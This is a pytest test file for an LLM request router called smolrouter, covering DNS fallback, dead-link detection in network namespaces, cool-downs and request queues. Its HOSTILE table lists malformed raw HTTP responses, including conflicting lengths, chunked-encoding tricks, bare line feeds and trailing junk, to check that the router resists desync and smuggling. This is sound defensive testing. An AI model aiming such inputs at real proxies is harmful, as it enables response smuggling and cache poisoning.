def test_the_last_address_counts_while_a_name_cannot_be_looked_up(failure: Any) -> None:
    names = NameServer(box=["127.0.0.1"])

    async def connect_thrice(port: int) -> str:
        pool = resolving_pool(names, lookup_timeout=0.1, addresses_kept=1.0)
        for _ in range(2):
            connection = await pool.connect(named_server("box", port))
            connection.abort()
            names.found["box"] = failure
        connection = await pool.connect(named_server("box", port))
        connection.abort()
        # It counts from the first failure on, and not for ever.
        await asyncio.sleep(1.0)
        with pytest.raises(smolrouter.BadGateway) as caught:
            await pool.connect(named_server("box", port))
        names.found["box"] = ["127.0.0.1"]
        names.gate.set()
        await asyncio.sleep(0.1)
        connection = await pool.connect(named_server("box", port))
        connection.abort()
        return str(caught.value)

    with Upstream() as upstream:
        reason = run_in_loop(connect_thrice(upstream.port))
    assert reason == (
        "its name is not known: unknown" if failure else "it takes too long to look up its name"
    )


@pytest.mark.parametrize(
    "addresses", [["127.0.0.2", "127.0.0.1"], ["::1", "127.0.0.1"], ["127.0.0.2", "127.0.0.3"]]
)
def test_the_next_address_of_a_name_is_tried(addresses: list[str]) -> None:
    names = NameServer(box=addresses)

    async def connect_once(port: int) -> str:
        connection = await resolving_pool(names).connect(named_server("box", port))
        connection.abort()
        return connection.transport.get_extra_info("peername")[0]

    with Upstream() as upstream:
        if "127.0.0.1" in addresses:
            assert run_in_loop(connect_once(upstream.port)) == "127.0.0.1"
        else:
            with pytest.raises(smolrouter.BadGateway, match="connection refused"):
                run_in_loop(connect_once(upstream.port))


def test_addresses_of_a_name_in_turn() -> None:
    found = ["::1", "::2", "10.0.0.1", "::1"]
    infos = [(0, 0, 0, "", (address, 0)) for address in found]
    assert smolrouter.list_addresses(infos) == ["::1", "10.0.0.1", "::2"]


def test_a_slow_address_does_not_hold_up_the_next() -> None:
    names = NameServer(box=["127.0.0.2", "127.0.0.1"])

    async def connect_once(port: int) -> str:
        connection = await resolving_pool(names, address_delay=0.05).connect(
            named_server("box", port)
        )
        connection.abort()
        return connection.transport.get_extra_info("peername")[0]

    with Upstream() as upstream:
        # A listener at the other address whose queue is full.
        full = socket.create_server(("127.0.0.2", upstream.port), backlog=0)
        waiting = [socket.socket() for _ in range(4)]
        for sock in waiting:
            sock.setblocking(False)
            sock.connect_ex(full.getsockname())
        assert run_in_loop(connect_once(upstream.port)) == "127.0.0.1"
        for sock in (full, *waiting):
            sock.close()


# --- machines that are switched off ---------------------------------------------------

CLONE_NEWNET = 0x40000000


def in_namespace(name: str, task: Callable[[], Any]) -> Any:
    """Run a task in a network namespace: what it opens and starts stays there."""

    def run() -> Any:
        with open(f"/run/netns/{name}") as namespace:
            if ctypes.CDLL(None, use_errno=True).setns(namespace.fileno(), CLONE_NEWNET):
                raise OSError(ctypes.get_errno(), "setns")
        return task()

    # In a thread of its own, which ends with the task.
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        return pool.submit(run).result()


class FarAway:
    """A router here, an upstream there, and a cable between them that can be pulled out."""

    def __init__(self, here: str, there: str, upstream: Upstream, router: Router) -> None:
        self.here = here
        self.there = there
        self.upstream = upstream
        self.router = router

    def pull_the_cable(self) -> None:
        """Let the link go down at the upstream: neither side is told anything any more."""
        subprocess.run(["ip", "-n", self.there, "link", "set", "cable", "down"], check=True)

    def count_sockets(self) -> int:
        """Return how many sockets the router has open."""
        files = pathlib.Path(f"/proc/{self.router.process.pid}/fd")
        return sum(os.readlink(file).startswith("socket:") for file in files.iterdir())

    def ask(self, model: str = "tiny", **more: Any) -> tuple[Response, float]:
        """Ask the router; return the answer, and how many seconds it took."""
        began = time.monotonic()
        got = in_namespace(self.here, lambda: post_chat(self.router, model, **more))
        return got, time.monotonic() - began


@contextlib.contextmanager
def far_away(**limits: float) -> Iterator[FarAway]:
    """Start a router and an upstream in network namespaces of their own.

    That needs root and the program `ip`. A container may be forbidden to do it even so: then the
    test is skipped, also where all must run.
    """
    here, there = (f"smol-{os.getpid()}-{side}" for side in ("here", "there"))
    commands = [
        f"netns add {here}",
        f"netns add {there}",
        f"-n {here} link add cable type veth peer name cable netns {there}",
        f"-n {here} address add 10.99.0.1/24 dev cable",
        f"-n {there} address add 10.99.0.2/24 dev cable",
        f"-n {here} link set lo up",
        f"-n {here} link set cable up",
        f"-n {there} link set cable up",
    ]
    if not shutil.which("ip"):
        pytest.skip("there is no program `ip` here (iproute2)")
    with contextlib.ExitStack() as stack:
        for name in (here, there):
            stack.callback(subprocess.run, ["ip", "netns", "del", name], capture_output=True)
        for command in commands:
            if subprocess.run(["ip", *command.split()], capture_output=True).returncode:
                pytest.skip(f"no network namespaces can be made here: ip {command}")
        upstream = in_namespace(there, lambda: Upstream(host="10.99.0.2"))
        stack.enter_context(upstream)
        settings = {"DEFAULT_UPSTREAM": upstream.url, "CONNECT_TIMEOUT": 0.5}
        router = in_namespace(here, lambda: Router(settings, limits=limits))
        yield FarAway(here, there, upstream, stack.enter_context(router))


def test_an_idle_connection_to_a_dead_machine_is_dropped() -> None:
    with far_away(probe_interval=1, idle_ack_timeout=1.5) as far:
        before = far.count_sockets()
        assert far.ask()[0].status == 200
        assert wait_until(lambda: far.count_sockets() == before + 1)
        # As long as the machine is there, the connection stays.
        time.sleep(2.5)
        assert far.count_sockets() == before + 1
        far.pull_the_cable()
        assert wait_until(lambda: far.count_sockets() == before, 4)
        got, seconds = far.ask()
        assert (got.status, seconds < 3) == (504, True)
        assert "CONNECT_TIMEOUT" in got.json["error"]["message"]


@pytest.mark.parametrize("stream", [False, True])
def test_a_request_on_a_connection_to_a_dead_machine_fails_soon(stream: bool) -> None:
    with far_away(probe_interval=1, busy_ack_timeout=1.5) as far:
        assert far.ask(stream=stream)[0].status == 200
        far.pull_the_cable()
        got, seconds = far.ask(stream=stream)
        # A new connection was tried, too.
        assert (got.status, seconds < 5) == (504, True)
        assert "CONNECT_TIMEOUT" in got.json["error"]["message"]


@pytest.mark.parametrize("stream", [False, True])
def test_a_machine_that_dies_before_or_in_its_answer(stream: bool) -> None:
    with far_away(probe_interval=1, busy_ack_timeout=1.5) as far:
        model = far.upstream.add_script(broken_stream(HANG) if stream else [HANG])
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            asked = pool.submit(far.ask, model, stream=stream)
            assert wait_until(lambda: far.upstream.requests_for(model))
            # As long as its machine is there, a server may think for as long as it likes.
            time.sleep(2.5)
            assert not asked.done()
            far.pull_the_cable()
            got, seconds = asked.result()
        assert seconds < 8
        error = got.documents[-1]["error"] if stream else got.json["error"]
        assert "no sign of its machine for " in error["message"]
        assert got.status == (200 if stream else 502)


def test_a_server_that_does_not_read_for_a_while_is_not_dead() -> None:
    """It puts a long request behind those that run."""
    ready = threading.Event()

    def serve(listener: socket.socket) -> None:
        with listener:
            sock = listener.accept()[0]
        ready.wait(PATIENCE)
        with sock, sock.makefile("rb") as reader:
            read_request(sock, reader, 0)
            sock.sendall(FINE_RESPONSE[0])

    listener = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=serve, args=(listener,), daemon=True).start()
    # It is not asked for its models: the first connection is that of the request.
    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
    routes = {"servers": {"busy": {"url": url, "models": ["tiny"]}}}
    limits = {"probe_interval": 1, "busy_ack_timeout": 0.5}
    with Router({"DEFAULT_UPSTREAM": "busy"}, routes, limits=limits) as router:
        threading.Timer(2.5, ready.set).start()
        assert post_chat(router, "tiny", "x" * 8_000_000).json == {"fine": True}


# --- answers that are not HTTP --------------------------------------------------------

HOSTILE: dict[str, list[Step]] = {
    "two lengths": raw_response(b"Content-Length: 2\r\nContent-Length: 3"),
    "one length twice": raw_response(b"Content-Length: 2\r\nContent-Length: 2"),
    "list of lengths": raw_response(b"Content-Length: 2, 2"),
    "signed length": raw_response(b"Content-Length: +2"),
    "length with underscore": raw_response(b"Content-Length: 0_2"),
    "length and coding": raw_response(b"Content-Length: 2\r\n" + CHUNKED_FIELD),
    "gzip as a transfer coding": raw_response(b"Transfer-Encoding: gzip, chunked"),
    "bad chunk-size": raw_response(CHUNKED_FIELD, b"zz\r\n{}\r\n0\r\n\r\n"),
    "signed chunk-size": raw_response(CHUNKED_FIELD, b"+2\r\n{}\r\n0\r\n\r\n"),
    "bad end of a chunk": raw_response(CHUNKED_FIELD, b"2\r\n{}XX0\r\n\r\n"),
    "bare LF in a chunk line": raw_response(CHUNKED_FIELD, b"2\n{}\r\n0\r\n\r\n"),
    "no last chunk": raw_response(CHUNKED_FIELD, b"2\r\n{}\r\n"),
    "no end of the trailers": raw_response(CHUNKED_FIELD, b"2\r\n{}\r\n0\r\n"),
    "endless trailers": raw_response(CHUNKED_FIELD, b"2\r\n{}\r\n0\r\n" + b"A: b\r\n" * 9999),
    "content cut short": raw_response(b"Content-Length: 9"),
    "content reset": [*raw_response(b"Content-Length: 9")[:1], DROP],
    "no content": raw_response(b"Content-Length: 9", b""),
    "no answer": [CLOSE],
    "reset": [DROP],
    "half a status line": [b"HTTP/1.", CLOSE],
    "half a head": [b"HTTP/1.1 200 OK\r\nContent-Le", CLOSE],
    "head without its end": [b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n", CLOSE],
    "unasked 101": [
        b"HTTP/1.1 101 Fine\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n", CLOSE],
    "flood of 1xx": [b"HTTP/1.1 100 Continue\r\n\r\n" * 51, *FINE_RESPONSE],
    "endless 1xx": [b"HTTP/1.1 103 Hints\r\n\r\n" * 5000, *FINE_RESPONSE],
    "endless field": [b"HTTP/1.1 200 OK\r\nA: " + b"b" * 200_000, CLOSE],
    "endless fields": [b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 20_000, CLOSE],
    "too many fields": raw_response(b"A: b\r\n" * 129 + b"Content-Length: 2"),
    "endless status line": [b"HTTP/1.1 200 " + b"O" * 200_000, CLOSE],
    "HTTP/0.9": [b"<html>it works</html>\n", CLOSE],
    "noise": [bytes(range(256)) * 9, CLOSE],
    "noise with an end": [b"noise\r\n\r\n", CLOSE],
    "TLS alert": [b"\x15\x03\x03\x00\x02\x02\x28", CLOSE],
    "status of two digits": [b"HTTP/1.1 20 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
    "status of four digits": [
        b"HTTP/1.1 2000 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
    "status of letters": [b"HTTP/1.1 abc OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
    "signed status": [b"HTTP/1.1 +20 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
    "another protocol": [b"ICY 200 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
    "HTTP/2": [b"HTTP/2 200 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
    "bare LF": [b"HTTP/1.1 200 OK\nContent-Length: 2\n\n{}", CLOSE],
    "NUL in a field": raw_response(b"A: \0\r\nContent-Length: 2"),
    "bare CR in a field": raw_response(b"A: b\rC: d\r\nContent-Length: 2"),
    "space before the colon": raw_response(b"Content-Length : 2"),
    "line without a colon": raw_response(b"nonsense\r\nContent-Length: 2"),
}  # fmt: skip


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_answer(name: str, path: str, stream: bool) -> None:
    model = default_upstream().add_script(HOSTILE[name])
    got = request(default_router().port, "POST", path, chat_document(model, stream=stream))
    assert is_visibly_broken(got), got
    assert b"[DONE]" not in got.content and b'"done":true' not in got.content
    if got.status == 502:
        assert got.json["error"]
    assert request(default_router().port, "GET", "/v1/fine").status == 200


def test_a_few_interim_answers_are_fine() -> None:
    hints = b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n"
    model = default_upstream().add_script(
        [b"HTTP/1.1 100 Continue\r\n\r\n" + hints * 3, *FINE_RESPONSE]
    )
    assert post_chat(default_router(), model).json == {"fine": True}


def test_head_of_an_answer_in_pieces() -> None:
    whole = json_response({"fine": True})[0]
    model = default_upstream().add_script([s for b in whole for s in (bytes([b]), 0.001)])
    assert post_chat(default_router(), model).json == {"fine": True}


def test_folded_field_of_an_answer_does_not_travel() -> None:
    steps = [b"HTTP/1.1 200 OK\r\nA: b\r\n c\r\nContent-Length: 2\r\n\r\n{}", CLOSE]
    data = send_raw(
        default_router().port,
        encode_post(CHAT, chat_document(default_upstream().add_script(steps))),
    )
    assert b"\r\n " not in data.partition(b"\r\n\r\n")[0]


def test_junk_after_the_end_reaches_nobody() -> None:
    model = default_upstream().add_script([json_response({"n": 1})[0] + POISON, 0.05, POISON])
    for _ in range(3):
        data = send_raw(default_router().port, encode_post(CHAT, chat_document(model)))
        assert parse_response(data).json == {"n": 1}
        assert b"poisoned" not in data


def test_an_answer_before_the_end_of_the_request() -> None:
    refusal = response_head(413, [("Content-Length", "5"), ("Connection", "close")]) + b"large"

    def refuse(listener: socket.socket) -> None:
        while True:
            with contextlib.suppress(ConnectionError), listener.accept()[0] as sock:
                sock.recv(1000)
                sock.sendall(refusal)
                # Nothing more of the request is read.
                time.sleep(0.2)

    listener = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=refuse, args=(listener,), daemon=True).start()
    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
    with Router({"DEFAULT_UPSTREAM": url}) as router:
        got = post_chat(router, "tiny", "x" * 8_000_000)
        assert (got.status, got.content) == (413, b"large")


# --- cool-downs and turns -------------------------------------------------------------


class SwitchableUpstream(Upstream):
    """An upstream that answers every request with `mood`, which a test may change."""

    def __init__(self) -> None:
        self.mood: Iterable[Step] = FINE_RESPONSE
        super().__init__(lambda received: self.mood)

    @property
    def request_count(self) -> int:
        return len(self.requests_for('"m"'))


@contextlib.contextmanager
def switchable_pair(strategy: str = "failover", **settings: Any) -> Iterator[tuple]:
    """Start a router whose alias `pair` has two upstreams that a test may let fail."""
    with SwitchableUpstream() as one, SwitchableUpstream() as two:
        routes = {
            "servers": {"one": one.url, "two": two.url},
            "aliases": {"pair": {"strategy": strategy, "instances": ["one/m", "two/m"]}},
        }
        with Router(settings, routes) as router:
            yield router, one, two


@pytest.mark.parametrize("status, cools", [(429, 1), (503, 1), (500, 0), (404, 0)])
def test_cool_down_after_429_and_503_only(status: int, cools: int) -> None:
    with switchable_pair() as (router, one, two):
        one.mood = json_response({}, status)
        assert post_chat(router, "pair").status == 200
        one.mood = FINE_RESPONSE
        assert post_chat(router, "pair").status == 200
        assert (one.request_count, two.request_count) == ((1, 2) if cools else (2, 1))


def test_a_cooling_instance_is_the_last_hope() -> None:
    with switchable_pair() as (router, one, two):
        one.mood = [DROP]
        assert post_chat(router, "pair").status == 200
        one.mood = FINE_RESPONSE
        two.mood = json_response({}, 500)
        assert post_chat(router, "pair").status == 200
        assert (one.request_count, two.request_count) == (2, 2)
        two.mood = FINE_RESPONSE
        # The success has ended the cool-down.
        assert post_chat(router, "pair").status == 200
        assert (one.request_count, two.request_count) == (3, 2)


def test_what_is_known_of_long_names_fills_no_memory() -> None:
    """Clients choose the names of models, and the router remembers how each instance fares."""
    settings = {"LOG_LEVEL": "ERROR", "ENABLE_LOGGING": False}
    with router_and_upstream(timing_server, **settings) as (router, upstream):
        post_chat(router, "m", stream=True)
        before = memory_mib(router)
        names = [f"{number}{'語' * 16_000}" for number in range(700)]
        got = map_in_threads(lambda name: post_chat(router, name, stream=True).status, names)
        assert got == [200] * 700
        assert wait_until(lambda: memory_mib(router) < before + 10), memory_mib(router)
        # Names that are alike at their beginning are told apart all the same.
        for number in (0, 0, 1):
            assert post_chat(router, f"{'x' * 300}{number}", stream=True).status == 200
    wanted = ["stream_options" in received.json for received in upstream.requests[-3:]]
    assert wanted == [True, False, True]


def test_retry_after_sets_the_cool_down() -> None:
    with switchable_pair() as (router, one, _):
        one.mood = json_response({}, 429, [("Retry-After", "1")])
        assert post_chat(router, "pair").status == 200
        one.mood = FINE_RESPONSE
        assert wait_until(lambda: post_chat(router, "pair").status == 200 and one.request_count > 1)


def test_round_robin_takes_turns() -> None:
    with switchable_pair("round_robin") as (router, one, two):
        for _ in range(6):
            assert post_chat(router, "pair").status == 200
            assert abs(one.request_count - two.request_count) <= 1
        assert (one.request_count, two.request_count) == (3, 3)
        one.mood = json_response({}, 500)
        for _ in range(4):
            assert post_chat(router, "pair").status == 200


def test_round_robin_gives_the_turn_of_the_dead_to_all() -> None:
    with contextlib.ExitStack() as stack:
        good = [stack.enter_context(SwitchableUpstream()) for _ in range(3)]
        urls = [good[0].url, refusing_url(), good[1].url, good[2].url]
        servers = {f"s{number}": url for number, url in enumerate(urls)}
        instances = [f"{name}/m" for name in servers]
        alias = {"strategy": "round_robin", "instances": instances}
        routes = {"servers": servers, "aliases": {"all": alias}}
        router = stack.enter_context(Router({}, routes))
        for _ in range(18):
            assert post_chat(router, "all").status == 200
        assert [upstream.request_count for upstream in good] == [6, 6, 6]


BREAKING_OFF: dict[str, list[Step]] = {
    "a stream": broken_stream(DROP),
    "a silent stream": broken_stream(HANG),
    "a document": raw_response(b"Content-Type: application/json\r\nContent-Length: 99"),
    "a text": raw_response(b"Content-Length: 99"),
}


@pytest.mark.parametrize("name", BREAKING_OFF)
def test_an_instance_that_breaks_off_its_answer_cools_down(name: str) -> None:
    with switchable_pair(REQUEST_TIMEOUT=0.5) as (router, one, two):
        one.mood = BREAKING_OFF[name]
        post_chat(router, "pair", stream="stream" in name)
        asked_then = two.request_count
        assert post_chat(router, "pair").json == {"fine": True}
        assert (one.request_count, two.request_count) == (1, asked_then + 1)


def test_a_break_in_each_answer_doubles_the_cool_down() -> None:
    """The good head of the next answer does not forget the failure before it."""
    health = smolrouter.Health(smolrouter.Limits(cool_down=5.0))
    for failures, cool_down in ((1, 5), (2, 10), (3, 20)):
        health.answer()
        assert health.cool_until == 0.0
        health.fail("it broke off")
        assert health.failures == failures
        assert cool_down - 1 < health.cool_until - time.monotonic() <= cool_down
    health.answer()
    health.succeed()
    assert health.failures == 0


def test_a_client_that_reads_nothing_cools_nobody_down() -> None:
    def endless(received: Received) -> Iterator[Step]:
        yield from stream_response([], whole=False)
        for _ in range(400):
            yield from encode_chunks(encode_event(text_delta("x" * 100_000)), end=b"")

    with Upstream(endless) as one, Upstream() as two:
        servers = {"one": one.url, "two": two.url}
        aliases = {"pair": {"instances": ["one/m", "two/m"]}}
        routes = {"servers": servers, "aliases": aliases}
        with Router({}, routes, limits={"write_timeout": 0.5}) as router:
            with connect(router.port) as sock:
                sock.sendall(encode_post(CHAT, chat_document("pair", stream=True)))
                seen = one.connection_of("m")
                assert wait_until(lambda: seen.closed)
            one.script = well_behaved
            assert post_chat(router, "pair").get("X-SmolRouter-Attempts") == "1"
            assert len(one.requests_for('"m"')) == 2


def test_least_busy_takes_the_idle_one() -> None:
    gate = threading.Event()

    def slow() -> Iterator[Step]:
        gate.wait(PATIENCE)
        yield from FINE_RESPONSE

    with (
        switchable_pair("least_busy") as (router, one, two),
        concurrent.futures.ThreadPoolExecutor(4) as pool,
    ):
        one.script = two.script = lambda received: slow()
        asked = []
        for _ in range(4):
            asked.append(pool.submit(post_chat, router, "pair"))
            assert wait_until(lambda: one.request_count + two.request_count == len(asked))
            assert abs(one.request_count - two.request_count) <= 1
        gate.set()
        assert [a.result().status for a in asked] == [200] * 4


# --- slots ----------------------------------------------------------------------------


class Gate:
    """A script whose answers wait until the test lets them go, by the last word of the user."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        # The words of the requests that came, and how many run at each server, now and at most.
        # Servers are paths of one port: the first segment is the name.
        self.arrived: list[str] = []
        self.running: collections.Counter[str] = collections.Counter()
        self.most: collections.Counter[str] = collections.Counter()
        self.may_end: dict[str, threading.Event] = collections.defaultdict(threading.Event)

    def __call__(self, received: Received) -> Iterator[Step]:
        document = received.json or {}
        word = document.get("input") or last_text(document)
        server = received.path.split("/")[1]
        with self.lock:
            self.arrived.append(word)
            self.running[server] += 1
            self.most[server] = max(self.most[server], self.running[server])
        self.may_end[word].wait(PATIENCE)
        with self.lock:
            self.running[server] -= 1
        if document.get("stream"):
            yield from sse_response(chat_stream(word))
        else:
            yield from json_response(completion(document, word))

    def end(self, word: str) -> None:
        """Let the request with this word be answered."""
        self.may_end[word].set()

    def open(self) -> None:
        """Let all requests be answered that come from now on."""
        is_set = threading.Event()
        is_set.set()
        self.may_end.default_factory = lambda: is_set

    def wait_for(self, *words: str) -> None:
        """Wait until these requests have come, in this order."""
        wait_until(lambda: len(self.arrived) >= len(words))
        assert self.arrived == [*words]


class SlotsTest:
    """A router, a gate behind all of its servers, and clients that the test need not wait for."""

    def __init__(self, servers: Mapping[str, Any], aliases: Mapping[str, Any], **more: Any) -> None:
        self.gate = Gate()
        self.upstream = Upstream(self.gate)
        limits = more.pop("limits", None)
        self.routes = {"servers": self.with_urls(servers), "aliases": aliases}
        self.router = Router({"DEFAULT_UPSTREAM": "none", **more}, self.routes, limits=limits)
        self.clients: dict[str, socket.socket] = {}

    def with_urls(self, servers: Mapping[str, Any]) -> dict[str, Any]:
        """Give servers their URLs, but for those that have one."""
        ours = {"url": self.upstream.url, "discover": False}
        return {
            name: {**ours, "url": f"{self.upstream.url}/{name}", **record}
            for name, record in servers.items()
        }

    def __enter__(self) -> SlotsTest:
        return self

    def __exit__(self, *_: object) -> None:
        for word in [*self.clients, *self.gate.arrived]:
            self.gate.end(word)
        for sock in self.clients.values():
            sock.close()
        self.router.stop()
        self.upstream.close()

    def send(self, word: str, model: str, path: str = CHAT, stream: bool = False) -> None:
        """Send a request whose last word is `word`."""
        example = example_request(path, model, stream)
        content = {"input": word} if "input" in example else {"prompt": word}
        if "messages" in example:
            content = {"messages": [{"role": "user", "content": word}]}
        sock = self.clients[word] = connect(self.router.port)
        sock.settimeout(PATIENCE)
        sock.sendall(encode_post(path, {**example, **content}))

    def inflight(self) -> list[dict[str, Any]]:
        """Return the running requests, those that came first at the beginning."""
        running = get_document(self.router, "/api/inflight")
        return sorted(running, key=operator.itemgetter("id"))

    def queued(self) -> list[dict[str, Any]]:
        """Return the requests that wait for a slot."""
        return [one for one in self.inflight() if one["phase"] == "queued"]

    def wait_for_queue(self, count: int) -> None:
        """Wait until so many requests wait for a slot."""
        assert wait_until(lambda: len(self.queued()) == count) is True

    def queue(self, word: str, model: str, **more: Any) -> None:
        """Send a request that finds no slot, and wait until it is in the queue."""
        count = len(self.queued())
        self.send(word, model, **more)
        self.wait_for_queue(count + 1)

    def end(self, word: str) -> Response:
        """Let a request end and return its answer."""
        self.gate.end(word)
        return self.answer(word)

    def answer(self, word: str) -> Response:
        """Return the answer to a request."""
        with self.clients.pop(word) as sock:
            return parse_response(exchange(sock))

    def server(self, name: str) -> dict[str, Any]:
        """Return what /api/upstreams says of a server."""
        servers = get_document(self.router, "/api/upstreams")
        return next(server for server in servers if server["name"] == name)


def test_forty_requests_on_two_servers_with_two_slots() -> None:
    servers = {"one": {"slots": 2}, "two": {"max_concurrent": 2}}
    aliases = {"pair": {"instances": ["one/m", "two/m"]}}
    ways = [way for way in ALL_WAYS if way[0] not in ("/v1/rerank", "/api/embed")]
    with SlotsTest(servers, aliases) as test:
        words = [f"w{number}" for number in range(40)]
        for word, (path, stream) in zip(words, itertools.cycle(ways), strict=False):
            test.send(word, "pair", path=path, stream=stream)
            # So they come in this order.
            wait_until(lambda: len(test.inflight()) == len(test.clients))
        test.gate.wait_for(*words[:4])
        waiting = test.queued()
        assert len(waiting) == 36
        assert all(one["waits_for"] == "one, two" and not one["upstream_url"] for one in waiting)
        assert all(one["queued_ms"] > 0 for one in waiting)
        for name in ("one", "two"):
            server = test.server(name)
            assert (server["slots"], server["running"], server["queued"]) == (2, 2, 36)
        metrics = request(test.router.port, "GET", "/metrics").content
        assert b"\nsmolrouter_queued_requests 36\n" in metrics
        for number, word in enumerate(words):
            assert test.end(word).status == 200
            test.gate.wait_for(*words[: number + 5])
        assert test.gate.most == {"one": 2, "two": 2}
        assert test.inflight() == [] and test.server("one")["running"] == 0
        wait_for_row(test.router, "pair")
        assert wait_until(lambda: len(get_document(test.router, "/api/logs?limit=100")) == 40)
        rows = get_document(test.router, "/api/logs?limit=100")
        by_id = sorted(rows, key=operator.itemgetter("id"))
        assert [row["queued_ms"] > 0 for row in by_id] == [False] * 4 + [True] * 36
        assert "s queued)" in test.router.stderr


PRIORITIES = {
    "high": {"instances": ["one/m"], "priority": "high"},
    "normal": {"instances": ["one/m"]},
    "low": {"instances": ["one/m"], "priority": "low"},
}


def test_high_priorities_overtake() -> None:
    # Two aliases, or three, share a server.
    with SlotsTest({"one": {"slots": 1}}, PRIORITIES) as test:
        test.send("first", "normal")
        test.gate.wait_for("first")
        for word, model in (("l1", "low"), ("n1", "normal"), ("h1", "high"), ("l2", "low")):
            test.queue(word, model)
        test.queue("h2", "high")
        order = ["first", "h1", "h2", "n1", "l1", "l2"]
        for number, word in enumerate(order, 1):
            test.gate.wait_for(*order[:number])
            test.end(word)
        assert test.gate.most == {"one": 1}


def test_low_priorities_are_not_starved() -> None:
    limits = {"longest_overtaking": 0}
    with SlotsTest({"one": {"slots": 1}}, PRIORITIES, limits=limits) as test:
        test.send("first", "high")
        test.gate.wait_for("first")
        order = ["first", "low", "normal", "high"]
        for word in order[1:]:
            test.queue(word, word)
        for number, word in enumerate(order, 1):
            test.gate.wait_for(*order[:number])
            test.end(word)


def test_the_order_of_the_queue() -> None:
    """Whoever has been overtaken for half a minute goes before all that came later."""

    async def order_after(seconds: float) -> list[int]:
        limits = smolrouter.Limits(longest_overtaking=seconds)
        batch = smolrouter.LoopBatch(limits)
        slots = smolrouter.Slots(smolrouter.Upstreams(smolrouter.Settings(), batch))
        for number, rank in enumerate((1, 2, 0, 2, 1, 0)):
            slots.add(smolrouter.Waiting(rank, number, ()))
        return [waiting.number for waiting in slots.in_order()]

    assert run_coroutine(order_after(30)) == [2, 5, 0, 4, 1, 3]
    # The last one that came for each rank has been overtaken by nobody, or just once.
    assert run_coroutine(order_after(-1)) == [0, 1, 3, 4, 2, 5]


def test_who_leaves_the_queue_frees_the_place() -> None:
    with SlotsTest({"one": {"slots": 1}}, PRIORITIES, QUEUE_SIZE=1) as test:
        test.send("first", "normal")
        test.gate.wait_for("first")
        test.queue("leaves", "low")
        test.clients.pop("leaves").close()
        test.wait_for_queue(0)
        row = wait_for_row(test.router, "low")
        assert (row["status_code"], row["error_message"]) == (499, "client_closed")
        assert row["queued_ms"] > 0 and row["attempts"] == []
        # So does one that somebody stops.
        test.queue("stopped", "low")
        (waiting,) = test.queued()
        request(test.router.port, "POST", f"/api/inflight/{waiting['id']}/cancel")
        assert test.answer("stopped").status == 499
        test.queue("next", "normal")
        # One that runs and is left by its client makes room, too.
        test.clients.pop("first").close()
        test.gate.wait_for("first", "next")
        assert test.end("next").status == 200
        assert test.server("one")["running"] == 0


QUEUE_WAYS = [(CHAT, False), (CHAT, True), ("/api/chat", False), ("/api/chat", True)]


def test_a_queue_that_is_full_and_one_that_is_slow() -> None:
    settings = {"QUEUE_SIZE": 1, "QUEUE_TIMEOUT": 0.5, "PING_INTERVAL": 0.1}
    limits = {"deadline_interval": 0.05}
    with SlotsTest({"one": {"slots": 1}}, PRIORITIES, limits=limits, **settings) as test:
        test.send("first", "high")
        test.gate.wait_for("first")
        for path, stream in QUEUE_WAYS:
            test.queue("slow", "low", path=path, stream=stream)
            test.send("full", "normal", path=path, stream=stream)
            full = test.answer("full")
            assert (full.status, full.get("Retry-After")) == (503, "10")
            error = full.json["error"]
            words = error if path == "/api/chat" else error["message"]
            assert "no slot is free at one, and 1 requests wait" in words
            assert "(QUEUE_SIZE=1)" in words
            slow = test.answer("slow")
            words = "no slot was free at one within 0.5 s (QUEUE_TIMEOUT)"
            if stream:
                # Signs of life have begun a stream, and the error is all that follows.
                count, rest = without_pings(path, slow.content)
                assert slow.status == 200 and count >= 2
                assert words.encode() in rest
            else:
                assert (slow.status, slow.get("Retry-After")) == (503, "10")
                assert words.encode() in slow.content
            row = wait_for_row(test.router, "low")
            assert (row["status_code"], row["error_message"]) == (503, words)
            assert row["queued_ms"] >= 450
            row = wait_for_row(test.router, "normal")
            assert (row["status_code"], row["attempts"]) == (503, [])
        assert test.end("first").status == 200
        assert test.gate.arrived == ["first"]


def test_without_a_queue_nobody_waits() -> None:
    servers = {"one": {"slots": 1}, "two": {"slots": 1}}
    aliases = {"pair": {"instances": ["one/m", "two/m"]}}
    with SlotsTest(servers, aliases, QUEUE_SIZE=0) as test:
        for word in ("first", "second"):
            # The second one goes to the next instance with room.
            test.send(word, "pair")
            wait_until(lambda: len(test.gate.arrived) == len(test.clients))
        assert test.gate.running == {"one": 1, "two": 1}
        test.send("third", "pair")
        assert test.answer("third").status == 503


def test_failover_gives_one_place_for_another() -> None:
    with (
        SwitchableUpstream() as bad,
        SlotsTest(
            {"bad": {"url": bad.url, "slots": 1}, "good": {"slots": 1}},
            {"pair": {"instances": ["bad/m", "good/m"]}, "good-alone": {"instances": ["good/m"]}},
            QUEUE_TIMEOUT=2,
        ) as test,
    ):
        bad.mood = json_response({"error": {"message": "out of memory"}}, 500)
        test.send("first", "good-alone")
        test.gate.wait_for("first")
        test.queue("second", "pair")
        # It waits for the good one, and not at the bad one any more.
        assert test.queued()[0]["waits_for"] == "good"
        assert (test.server("bad")["running"], bad.request_count) == (0, 1)
        test.end("first")
        test.gate.wait_for("first", "second")
        got = test.end("second")
        assert (got.status, got.get("X-SmolRouter-Attempts")) == (200, "2")
        test.send("third", "good-alone")
        # When nothing becomes free, the client gets the error that there was.
        test.queue("fourth", "pair")
        got = test.answer("fourth")
        assert (got.status, got.json["error"]["message"]) == (500, "out of memory")
        row = wait_for_row(test.router, "pair")
        assert row["queued_ms"] > 1000 and len(row["attempts"]) == 1


